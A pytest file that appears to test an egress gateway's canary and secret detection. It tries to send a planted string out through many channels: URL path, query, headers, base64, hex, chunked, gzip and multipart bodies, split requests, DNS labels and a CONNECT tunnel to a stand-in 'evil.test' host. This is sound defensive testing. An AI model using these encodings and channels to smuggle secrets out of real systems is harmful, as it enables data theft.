"""Strings that must never leave, in every part of a request that can carry them; the control is the same request with another string (M36)."""

from __future__ import annotations

import base64
import gzip
import socket
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from gateway.harness import SECRET, Gate, Upstream, running
from stockade.core.values import Grant

pytestmark = pytest.mark.wall
CANARY, OTHER = "planted-canary-5d1f2b7a", "planted-nothing-5d1f2b7a"
NAMED = "the canary aws"
API = "https://open.localhost"

# where it stands: (path, curl's options)
PLACES: dict[str, Callable[[str, Path], tuple[str, tuple[str, ...]]]] = {
    "path": lambda text, _: (f"/v1/{text}", ()),
    "query": lambda text, _: (f"/v1/x?q={text}", ()),
    "percent": lambda text, _: ("/v1/x?q=" + "".join(f"%{byte:02x}" for byte in text.encode()), ()),
    "header": lambda text, _: ("/v1/x", ("-H", f"user-agent: {text}")),
    "referer in base64": lambda text, _: ("/v1/x", ("-H", f"referer: {base64.b64encode(text.encode()).decode()}")),
    "body": lambda text, _: ("/v1/x", ("-d", f"note={text}")),
    "hex body": lambda text, _: ("/v1/x", ("-d", text.encode().hex())),
    "multipart": lambda text, _: ("/v1/x", ("-F", f"file={text}")),
    "chunked": lambda text, _: ("/v1/x", ("-H", "transfer-encoding: chunked", "-d", text)),
    "large body": lambda text, place: (
        "/v1/x",
        ("--http1.1", "--data-binary", f"@{_file(place, b'x' * 300_000 + text.encode() + bytes(9))}"),
    ),
    "gzip": lambda text, place: ("/v1/x", ("--data-binary", f"@{_file(place, gzip.compress(b'y' * 200 + text.encode()))}")),
}


def _file(place: Path, data: bytes) -> Path:
    (place / "data").write_bytes(data)
    return place / "data"


@pytest.fixture(scope="module")
def watched(carrier: str, upstream: Upstream, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gate]:
    grants = (Grant("open.localhost", methods=("GET", "POST"), paths=("/v1/**",), port=upstream.port, private=True),)
    with running(tmp_path_factory.mktemp("gate"), upstream, grants, canaries={"aws": CANARY}, kind=carrier) as started:
        yield started


@pytest.mark.parametrize("where", PLACES)
def test_a_planted_string_does_not_leave_and_another_does(watched: Gate, upstream: Upstream, where: str, tmp_path: Path) -> None:
    upstream.requests.clear()
    before = len(watched.events)
    path, options = PLACES[where](CANARY, tmp_path)
    done = watched.curl(f"{API}:{upstream.port}{path}", *options)
    assert done.stdout.endswith("[403]") and NAMED in done.stdout and not upstream.requests
    (event,) = [event for event in watched.events[before:] if event.get("canary")]
    assert (event["effect"], event["rule"], event["canary"]) == ("deny", "canary", NAMED)
    assert CANARY not in repr(watched.events)
    path, options = PLACES[where](OTHER, tmp_path)
    assert watched.curl(f"{API}:{upstream.port}{path}", *options).stdout.endswith("[200]")
    assert len(upstream.requests) == 1


def test_a_string_in_pieces_over_requests(watched: Gate, upstream: Upstream) -> None:
    pieces = [CANARY[at : at + 8] for at in range(0, len(CANARY), 8)]
    found = [watched.curl(f"{API}:{upstream.port}/v1/x", "-d", f"part={piece}").stdout[-5:] for piece in pieces]
    assert found == ["[200]", "[200]", "[403]"]


def test_a_string_in_a_name_that_is_asked_for(watched: Gate) -> None:
    def ask(name: str) -> int:
        labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(5)
            sock.sendto(b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1", ("127.0.0.1", watched.ports["dns-udp"]))
            return sock.recv(512)[3] & 15

    before = len(watched.events)
    assert ask(f"{CANARY[:9]}.{CANARY[9:]}.evil.test") == 3
    time.sleep(0.2)
    (event,) = [event for event in watched.events[before:] if event["kind"] == "dns"]
    assert (event["name"], event["canary"]) == ("(withheld)", NAMED) and CANARY[9:] not in repr(watched.events)


def test_a_tunnel_to_a_host_that_spells_it(watched: Gate) -> None:
    host = f"{CANARY}.evil.test:443"
    got = watched.send(watched.ports["http-proxy"], f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    assert got.startswith(b"HTTP/1.1 403") and b"canary" in got
    time.sleep(0.1)
    assert CANARY not in repr(watched.events)


@pytest.mark.parametrize("dress", [str, lambda text: base64.b64encode(b"xx" + text.encode()).decode(), lambda text: text.encode().hex()])
def test_the_brokers_own_secret_is_recognised_wherever_it_came_from(gate: Gate, upstream: Upstream, dress: Callable[[str], str]) -> None:
    """Without any canary in the policy; it was never given to the sandbox, so somebody else must have leaked it."""
    upstream.requests.clear()
    url = f"https://api.localhost:{upstream.port}/v1/x"
    done = gate.curl(url, "-d", f"note={dress(SECRET)}")
    assert done.stdout.endswith("[403]") and "the secret of own" in done.stdout and SECRET not in done.stdout
    assert not upstream.requests and SECRET not in repr(gate.events)
    assert gate.curl(url, "-d", f"note={dress(SECRET[::-1].upper())}").stdout.endswith("[200]")
